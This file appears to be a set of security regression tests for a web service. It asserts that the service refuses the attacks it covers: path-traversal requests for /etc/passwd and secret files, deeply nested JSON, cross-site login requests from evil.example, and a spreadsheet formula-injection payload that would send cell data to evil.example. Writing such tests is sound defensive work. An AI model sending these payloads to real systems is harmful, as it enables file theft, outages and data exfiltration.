// Regression tests for the findings of the outside probe (issue 11 §1): each of these failed on
// the main of 2026-12-07 (commit 1bcfa6d) and passes since.
//   - file read through the static handler (raw targets on a socket: clients normalise them)
//   - crash by deeply nested JSON
//   - an auditor finding customers by phone through the feedback search
//   - ids inside bodies resolved outside the caller's scope (feedback customer, encounter customer)
//   - bodies read before authentication; JSON routes taking text/plain; cross-site requests
//   - over-long targets and headers answered by closing the connection; invalid access-log JSON
//   - /metrics open to anyone; missing security headers; the session cookie never Secure
import net from 'node:net';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import {
  suite, test, useServer, expectProblem, expectStatus, assert, uid, makeUnit, makeStaff, makeCustomer,
  makeEncounter, freshPhone, startServer, describeRes,
} from './harness.mjs';

/**
 * Sends `head` (and `body`, if any) on a fresh socket and resolves the raw answer as
 * {status, headers, body} once the server closes or `ms` passes. `sendBody: false` sends only
 * the head, to see whether the server answers before reading a body it was promised.
 */
export function rawRequest(url, head, { body = '', ms = 5000 } = {}) {
  const { hostname, port } = new URL(url);
  return new Promise((resolve, reject) => {
    const sock = net.connect(Number(port), hostname);
    let data = Buffer.alloc(0);
    const done = () => {
      sock.destroy();
      const text = data.toString('latin1');
      const sep = text.indexOf('\r\n\r\n');
      const lines = text.slice(0, sep < 0 ? text.length : sep).split('\r\n');
      const m = /^HTTP\/1\.[01] (\d{3})/.exec(lines[0] || '');
      const headers = {};
      for (const l of lines.slice(1)) {
        const i = l.indexOf(':');
        if (i > 0) headers[l.slice(0, i).toLowerCase()] = l.slice(i + 1).trim();
      }
      resolve({ status: m ? Number(m[1]) : 0, headers, body: sep < 0 ? '' : data.slice(sep + 4).toString('utf8'), raw: text });
    };
    const timer = setTimeout(done, ms);
    sock.on('data', (d) => {
      data = Buffer.concat([data, d]);
    });
    sock.on('end', () => {
      clearTimeout(timer);
      done();
    });
    sock.on('error', (e) => {
      clearTimeout(timer);
      if (data.length) done();
      else reject(e);
    });
    sock.write(head);
    if (body) sock.write(body);
  });
}

const GET = (target, extra = '') => `GET ${target} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n${extra}\r\n`;

function parseProblem(r) {
  assert.match(r.headers['content-type'] || '', /^application\/problem\+json/, `problem content type: ${r.raw.slice(0, 300)}`);
  const p = JSON.parse(r.body);
  assert.equal(p.status, r.status);
  assert.equal(typeof p.code, 'string');
  return p;
}

suite('security: static files', () => {
  const s = useServer({ startServer: false });
  let server;
  let webRoot;
  test('setup: a web root with an index and a secret beside it', async () => {
    webRoot = join(s.dir, 'webroot');
    mkdirSync(join(webRoot, 'assets'), { recursive: true });
    writeFileSync(join(webRoot, 'index.html'), '<!doctype html><title>servq</title>INDEX');
    writeFileSync(join(webRoot, 'assets', 'app.js'), 'console.log("app")');
    writeFileSync(join(s.dir, 'secret.txt'), 'TOP-SECRET-OUTSIDE-WEBROOT');
    server = await startServer(s.db, { extraArgs: ['--web-root', webRoot] });
  });

  test('the web app and its assets are served', async () => {
    const a = await rawRequest(server.url, GET('/assets/app.js'));
    assert.equal(a.status, 200);
    assert.match(a.body, /console\.log/);
    const spa = await rawRequest(server.url, GET('/feedback/12'));
    assert.equal(spa.status, 200);
    assert.match(spa.body, /INDEX/);
  });

  test('raw targets naming files outside the web root are refused, never served', async () => {
    const dbFile = s.db.startsWith('postgres') ? join(s.dir, 'secret.txt') : s.db;
    const secret = join(s.dir, 'secret.txt');
    const targets = [
      '//etc/passwd',
      '/%2fetc%2fpasswd',
      '/%2Fetc%2Fpasswd',
      `/${secret}`, // "//tmp/.../secret.txt"
      `/${dbFile}`,
      `/%2f${secret.slice(1).replaceAll('/', '%2f')}`,
      '/../secret.txt',
      '/assets/../../secret.txt',
      '/assets/..%2f..%2fsecret.txt',
      '/%2e%2e/secret.txt',
      '/%2e%2e%2fsecret.txt',
      '/assets/%2e%2e/%2e%2e/secret.txt',
      '/assets\\..\\..\\secret.txt',
      '/assets/%5c..%5c..%5csecret.txt',
      '/index.html%00.png',
      '/./index.html',
    ];
    for (const t of targets) {
      const r = await rawRequest(server.url, GET(t));
      assert.ok([400, 404].includes(r.status), `${t} → ${r.status} ${r.body.slice(0, 120)}`);
      assert.doesNotMatch(r.body, /root:|TOP-SECRET|SQLite format/, `${t} leaked a file`);
      parseProblem(r);
    }
  });

  test('the web app carries a strict Content-Security-Policy and the other security headers', async () => {
    const r = await rawRequest(server.url, GET('/'));
    assert.equal(r.status, 200);
    const csp = r.headers['content-security-policy'] || '';
    assert.match(csp, /default-src 'self'/);
    assert.match(csp, /script-src 'self'(;|$)/, 'no inline or eval scripts');
    assert.match(csp, /frame-ancestors 'none'/);
    assert.match(csp, /object-src 'none'/);
    assert.equal(r.headers['x-content-type-options'], 'nosniff');
    assert.equal(r.headers['referrer-policy'], 'no-referrer');
    const api = await rawRequest(server.url, GET('/api/v1/health'));
    assert.match(api.headers['content-security-policy'] || '', /default-src 'none'/);
    assert.equal(api.headers['x-content-type-options'], 'nosniff');
    await server.stop();
  });
});

suite('security: hostile bodies and requests', () => {
  const s = useServer();

  test('JSON nested 60 000 deep is refused with a problem, and the server stays up', async () => {
    const deep = '['.repeat(60000) + ']'.repeat(60000);
    const pub = await s.client().post('/public/responses', `{"token":"x","answers":${deep}}`);
    expectProblem(pub, pub.status === 413 ? 413 : 400, pub.status === 413 ? 'http.payload_too_large' : 'http.json_too_deep');
    const admin = await s.admin();
    for (const path of ['/feedback', '/surveys', '/campaigns', '/customers']) {
      const r = await admin.post(path, `{"a":${deep}}`);
      expectProblem(r, 400, 'http.json_too_deep');
    }
    // 65 levels: one more than the limit, small enough for every body limit
    const r65 = await admin.post('/feedback', `{"a":${'['.repeat(64)}${']'.repeat(64)}}`);
    expectProblem(r65, 400, 'http.json_too_deep');
    // a definition sent as a string is parsed with the same bound
    const str = await admin.post('/surveys', { title: 'deep', definition: '['.repeat(5000) + ']'.repeat(5000) });
    expectProblem(str, 422, 'survey.definition_too_deep', 'definition');
    expectStatus(await s.client().get('/health'), 200);
  });

  test('JSON routes refuse other content types (415), the login included', async () => {
    const c = s.client();
    const r = await c.post('/auth/login', JSON.stringify({ login: 'admin', password: s.adminPassword }), {
      contentType: 'text/plain',
    });
    expectProblem(r, 415, 'http.unsupported_media_type');
    assert.equal(r.headers.get('set-cookie'), null, 'no session from a text/plain login');
    const admin = await s.admin();
    const f = await admin.post('/units', JSON.stringify({ code: uid('U'), name: 'x' }), {
      contentType: 'application/x-www-form-urlencoded',
    });
    expectProblem(f, 415, 'http.unsupported_media_type');
    const ok = await admin.post('/units', JSON.stringify({ code: uid('U'), name: 'x' }), {
      contentType: 'application/json; charset=utf-8',
    });
    expectStatus(ok, 201);
  });

  test('state-changing requests from another site are refused (Origin, Sec-Fetch-Site)', async () => {
    const c = s.client();
    const body = { login: 'admin', password: s.adminPassword };
    expectProblem(await c.post('/auth/login', body, { headers: { origin: 'http://evil.example' } }), 403, 'http.bad_origin');
    expectProblem(await c.post('/auth/login', body, { headers: { 'sec-fetch-site': 'cross-site' } }), 403, 'http.bad_origin');
    expectProblem(await c.post('/auth/login', body, { headers: { origin: 'null' } }), 403, 'http.bad_origin');
    const host = new URL(s.url).host;
    const same = await c.post('/auth/login', body, { headers: { origin: `http://${host}`, 'sec-fetch-site': 'same-origin' } });
    expectStatus(same, 200);
    // behind a proxy that rewrites Host, the browser's own Sec-Fetch-Site decides
    const proxied = await c.post('/auth/login', body, {
      headers: { origin: 'https://servq.benhvien.example', 'sec-fetch-site': 'same-origin' },
    });
    expectStatus(proxied, 200);
    // a signed-in browser's mutation from another site is refused before its CSRF token is even read
    const admin = await s.admin();
    expectProblem(await admin.post('/units', { code: uid('U'), name: 'x' }, { headers: { origin: 'https://evil.example' } }), 403, 'http.bad_origin');
  });

  test('a body is not read before the caller is authenticated', async () => {
    // 100 MB promised, only the head sent: the answer comes at once, without waiting for a byte.
    const head =
      'POST /api/v1/feedback HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n' +
      `Content-Length: ${100 * 1024 * 1024}\r\n\r\n`;
    const t0 = Date.now();
    const r = await rawRequest(s.url, head, { ms: 4000 });
    assert.equal(r.status, 401, r.raw.slice(0, 300));
    assert.equal(parseProblem(r).code, 'auth.required');
    assert.ok(Date.now() - t0 < 3000, 'answered without waiting for the body');
    // an anonymous caller may send only small bodies: 1 MiB to the login is 413 before reading
    const big = await rawRequest(
      s.url,
      'POST /api/v1/auth/login HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n' +
        `Content-Length: ${1024 * 1024}\r\n\r\n`,
      { ms: 4000 },
    );
    assert.equal(big.status, 413, big.raw.slice(0, 300));
    // an import from a role that may not import is refused before its file is read
    const staffUnit = await makeUnit(await s.admin(), { code: uid('SU') });
    const st = await makeStaff(await s.admin(), { unit: staffUnit.code });
    const head2 = await s.makeUser('head', { unit: staffUnit.code, staff: st.employee_code });
    const imp = await rawRequest(
      s.url,
      `POST /api/v1/imports/customers HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: text/csv\r\n` +
        `Cookie: ${head2.client.cookieHeader()}\r\nX-CSRF-Token: ${head2.client.csrf}\r\nContent-Length: ${50 * 1024 * 1024}\r\n\r\n`,
      { ms: 4000 },
    );
    assert.equal(imp.status, 403, imp.raw.slice(0, 300));
  });

  test('an over-long target answers 414 and over-long headers 431, as problems', async () => {
    const longTarget = await rawRequest(s.url, GET(`/api/v1/health?x=${'a'.repeat(10 * 1024)}`));
    assert.equal(longTarget.status, 414, longTarget.raw.slice(0, 200));
    assert.equal(parseProblem(longTarget).code, 'http.uri_too_long');
    const veryLong = await rawRequest(s.url, GET(`/api/v1/health?x=${'a'.repeat(100 * 1024)}`));
    assert.equal(veryLong.status, 414, veryLong.raw.slice(0, 200));
    const longHeader = await rawRequest(s.url, GET('/api/v1/health', `X-Filler: ${'b'.repeat(40 * 1024)}\r\n`));
    assert.equal(longHeader.status, 431, longHeader.raw.slice(0, 200));
    assert.equal(parseProblem(longHeader).code, 'http.header_too_large');
    expectStatus(await s.client().get('/health'), 200);
  });

  test('every access-log line is one valid JSON object', async () => {
    await s.client().post('/auth/login', { login: 'nobody', password: 'x' });
    await s.client().get('/nothing-here');
    // the log's lines (spdlog); plain notes such as "web/dist not found" are not log records
    const lines = s.server.stderr().split('\n').filter((l) => l.startsWith('{'));
    const requests = [];
    for (const l of lines) {
      let j;
      assert.doesNotThrow(() => (j = JSON.parse(l)), `log line is JSON: ${l.slice(0, 200)}`);
      if (j.data?.event === 'request') requests.push(j.data);
    }
    assert.ok(requests.some((r) => r.method === 'POST' && r.route === '/api/v1/auth/login'), 'the login is logged');
  });

  test('the session cookie is Secure when the proxy says https', async () => {
    const r = await s.client().post('/auth/login', { login: 'admin', password: s.adminPassword }, {
      headers: { 'x-forwarded-proto': 'https' },
    });
    expectStatus(r, 200);
    assert.match(r.headers.get('set-cookie'), /;\s*Secure/i);
    const plain = await s.client().post('/auth/login', { login: 'admin', password: s.adminPassword });
    assert.doesNotMatch(plain.headers.get('set-cookie'), /Secure/i);
  });

  test('/metrics is refused to a client behind a proxy when no token is set', async () => {
    const r = await s.client().get('/metrics', { headers: { 'x-forwarded-for': '203.0.113.9' } });
    expectProblem(r, 403, 'metrics.forbidden');
  });
});

suite('security: /metrics with a token', () => {
  const s = useServer({ serveArgs: ['--metrics-token', 'metrics-secret-123'] });
  test('only a bearer of the metrics token reads /metrics', async () => {
    expectProblem(await s.client().get('/metrics'), 401, 'metrics.token_required');
    expectProblem(await s.client().get('/metrics', { headers: { authorization: 'Bearer wrong' } }), 401, 'metrics.token_required');
    const ok = await s.client().get('/metrics', { headers: { authorization: 'Bearer metrics-secret-123' } });
    expectStatus(ok, 200);
    assert.match(ok.text, /servq_http_requests_total/);
  });
});

suite('security: what a role may learn about customers', () => {
  const s = useServer();
  let world;
  const setup = async () => {
    if (world) return world;
    const admin = await s.admin();
    const a = await makeUnit(admin, { code: uid('A') });
    const b = await makeUnit(admin, { code: uid('B') });
    const nurseA = await makeStaff(admin, { unit: a.code });
    const nurseB = await makeStaff(admin, { unit: b.code });
    const phoneB = freshPhone();
    // a customer seen only in unit B
    const custB = await makeCustomer(admin, { name: 'Trần Thị Bí Mật', phone: phoneB });
    await makeEncounter(admin, { customer: custB.id, unit: b.code, staff: nurseB.employee_code });
    const headA = await s.makeUser('head', { unit: a.code });
    const staffA = await s.makeUser('staff', { unit: a.code, staff: nurseA.employee_code });
    const auditor = await s.makeUser('auditor');
    world = { admin, a, b, nurseA, nurseB, phoneB, custB, headA, staffA, auditor };
    return world;
  };

  test('an auditor searching feedback by a customer\'s phone or name finds nothing; by content finds the case', async () => {
    const w = await setup();
    const word = `kiemtra${uid('W').toLowerCase()}`;
    const created = await w.admin.post('/feedback', {
      channel: 'hotline', kind: 'complaint', content: `Chờ lâu quá ${word}`, unit: w.b.code,
      customer: { name: 'Lê Văn Riêng Tư', phone: w.phoneB },
    });
    expectStatus(created, 201);
    const byPhoneAdmin = expectStatus(await w.admin.get(`/feedback?q=${w.phoneB}`), 200);
    assert.ok(byPhoneAdmin.total >= 1, 'quality staff find the case by phone');
    for (const q of [w.phoneB, w.phoneB.slice(-6), 'Riêng Tư', 'rieng tu']) {
      const r = expectStatus(await w.auditor.client.get(`/feedback?q=${encodeURIComponent(q)}`), 200);
      assert.equal(r.total, 0, `auditor q=${q} matched ${r.total}`);
      const counts = expectStatus(await w.auditor.client.get(`/feedback/counts?by=kind&q=${encodeURIComponent(q)}`), 200);
      assert.equal(JSON.stringify(counts).includes('"count":1'), false, `auditor counts q=${q}: ${JSON.stringify(counts)}`);
    }
    const byContent = expectStatus(await w.auditor.client.get(`/feedback?q=${word}`), 200);
    assert.equal(byContent.total, 1);
    assert.equal(byContent.items[0].customer.phone, null);
  });

  test('staff cannot read a customer outside their scope by naming its id in a new case', async () => {
    const w = await setup();
    const before = expectStatus(await w.admin.get('/feedback?page_size=1'), 200).total;
    const r = await w.staffA.client.post('/feedback', {
      channel: 'hotline', kind: 'complaint', content: 'test', customer: { id: w.custB.id },
    });
    expectProblem(r, 404, 'customer.not_found', 'customer.id');
    assert.doesNotMatch(r.text, /Bí Mật|Bi Mat/);
    assert.equal(expectStatus(await w.admin.get('/feedback?page_size=1'), 200).total, before, 'nothing stored');
    // naming the phone of that customer logs the case but does not link (and so reveal) the customer
    const byPhone = await w.staffA.client.post('/feedback', {
      channel: 'hotline', kind: 'complaint', content: 'test phone', customer: { phone: w.phoneB },
    });
    const body = expectStatus(byPhone, 201);
    assert.equal(body.customer.id, null, `customer link revealed: ${describeRes(byPhone)}`);
    assert.doesNotMatch(byPhone.text, /Bí Mật/);
  });

  test('a head cannot pull a customer of another unit into their scope through an encounter', async () => {
    const w = await setup();
    const r = await w.headA.client.post('/encounters', {
      external_id: uid('EN'), customer: w.custB.id, unit: w.a.code, service: 'Khám', started_at: '2026-01-15T02:30:00Z', amount: 1,
    });
    expectProblem(r, 404, 'customer.not_found', 'customer');
    expectProblem(await w.headA.client.get(`/customers/${w.custB.id}`), 404, 'customer.not_found');
    // by phone: the same answer as for a phone nobody has
    const known = await w.headA.client.post('/encounters', {
      external_id: uid('EN'), customer_phone: w.phoneB, unit: w.a.code, service: 'Khám', started_at: '2026-01-15T02:30:00Z', amount: 1,
    });
    const unknown = await w.headA.client.post('/encounters', {
      external_id: uid('EN'), customer_phone: freshPhone(), unit: w.a.code, service: 'Khám', started_at: '2026-01-15T02:30:00Z', amount: 1,
    });
    expectProblem(known, 422, 'encounter.customer_unknown', 'customer_phone');
    expectProblem(unknown, 422, 'encounter.customer_unknown', 'customer_phone');
    assert.equal(known.body.detail, unknown.body.detail, 'the two answers are the same');
    // nor name a nurse of another unit
    const cust = await makeCustomer(w.admin, {});
    await makeEncounter(w.admin, { customer: cust.id, unit: w.a.code });
    const otherNurse = await w.headA.client.post('/encounters', {
      external_id: uid('EN'), customer: cust.id, unit: w.a.code, staff: w.nurseB.employee_code, service: 'Khám',
      started_at: '2026-01-15T02:30:00Z', amount: 1,
    });
    expectProblem(otherNurse, 422, 'encounter.staff_unknown', 'staff');
  });
});

suite('security: sessions end when the account changes', () => {
  const s = useServer();

  test('changing one\'s own password signs out the account\'s other sessions, not this one', async () => {
    const u = await s.makeUser('quality');
    const other = await s.loginAs(u.login, u.password);
    expectStatus(await other.get('/auth/me'), 200);
    const r = await u.client.post('/auth/password', { current_password: u.password, new_password: 'a-new-password-123' });
    expectStatus(r, 204);
    expectProblem(await other.get('/feedback'), 401, 'auth.required');
    expectStatus(await u.client.get('/feedback'), 200);
  });

  for (const [what, change] of [
    ['a new password set by an admin', { password: 'admin-set-password-1' }],
    ['being disabled', { active: false }],
    ['another role', { role: 'auditor' }],
  ]) {
    test(`${what} ends the user's sessions`, async () => {
      const u = await s.makeUser('quality');
      expectStatus(await u.client.get('/feedback'), 200);
      const admin = await s.admin();
      expectStatus(await admin.patch(`/users/${u.user.id}`, change), 200);
      expectProblem(await u.client.get('/feedback'), 401, 'auth.required');
    });
  }
});

/** POST /auth/login from a chosen loopback address (Linux answers on all of 127.0.0.0/8). */
async function loginFrom(url, localAddress, login, password) {
  const { request } = await import('node:http');
  const { hostname, port } = new URL(url);
  const body = JSON.stringify({ login, password });
  return new Promise((resolve, reject) => {
    const req = request(
      { host: hostname, port, path: '/api/v1/auth/login', method: 'POST', localAddress,
        headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(body) } },
      (res) => {
        let text = '';
        res.on('data', (d) => (text += d));
        res.on('end', () => resolve({ status: res.statusCode, headers: res.headers, body: text ? JSON.parse(text) : null }));
      },
    );
    req.on('error', reject);
    req.end(body);
  });
}

suite('security: the sign-in throttle', () => {
  const s = useServer();

  test('failures from one address do not lock the account out at another address', async () => {
    const u = await s.makeUser('director');
    for (let i = 0; i < 8; i++) {
      const r = await loginFrom(s.url, '127.0.0.2', u.login, `wrong-${i}`);
      assert.ok([401, 429].includes(r.status), `attempt ${i}: ${r.status}`);
    }
    const attacker = await loginFrom(s.url, '127.0.0.2', u.login, u.password);
    assert.equal(attacker.status, 429, 'the guessing address waits');
    assert.ok(Number(attacker.headers['retry-after']) > 0, 'Retry-After given');
    const owner = await loginFrom(s.url, '127.0.0.3', u.login, u.password);
    assert.equal(owner.status, 200, `the user at their own desk signs in: ${JSON.stringify(owner.body)}`);
  });

  test('parallel wrong attempts get exactly the free attempts, no more', async () => {
    const u = await s.makeUser('director');
    const rs = await Promise.all(
      Array.from({ length: 16 }, (_, i) => loginFrom(s.url, '127.0.0.4', u.login, `wrong-parallel-${i}`)),
    );
    const checked = rs.filter((r) => r.status === 401).length;
    assert.equal(checked, 5, `statuses: ${rs.map((r) => r.status).join(',')}`);
    assert.equal(rs.filter((r) => r.status === 429).length, 11);
  });
});

suite('security: exports', () => {
  const s = useServer();

  test('formula-like text is exported as text: an apostrophe in CSV, a string cell in XLSX', async () => {
    const admin = await s.admin();
    const payload = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")';
    const created = await admin.post('/feedback', { channel: 'hotline', kind: 'complaint', content: payload });
    const ref = expectStatus(created, 201).reference;
    const csv = await admin.raw(`/feedback/export?format=csv&q=${encodeURIComponent(ref)}`);
    assert.equal(csv.status, 200);
    const text = csv.bytes.toString('utf8');
    assert.ok(text.includes(`"'=HYPERLINK(""http://evil.example/?""&A1,""Bấm vào đây"")"`), text.slice(0, 600));
    const xlsx = await admin.raw(`/feedback/export?format=xlsx&q=${encodeURIComponent(ref)}`);
    assert.equal(xlsx.status, 200);
    const { unzipEntries } = await import('./harness.mjs');
    const entries = unzipEntries(xlsx.bytes);
    const sheet = Object.entries(entries).find(([n]) => /worksheets\/sheet1\.xml$/.test(n))?.[1]?.toString('utf8') || '';
    assert.ok(sheet.length > 0, 'sheet found');
    assert.doesNotMatch(sheet, /<f>/, 'no formula cell');
  });
});
